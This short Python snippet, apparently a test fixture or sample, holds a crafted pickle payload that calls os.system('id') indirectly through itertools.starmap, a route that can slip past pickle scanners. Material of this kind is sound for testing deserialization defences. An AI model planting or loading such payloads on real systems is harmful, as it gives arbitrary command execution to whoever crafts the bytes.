"""`itertools.starmap` calls what it is given."""

PAYLOAD = b"\x80\x04\x8c\titertools\x8c\x07starmap\x93(\x8c\x02os\x8c\x06system\x93]\x8c\x02id\x85atR."
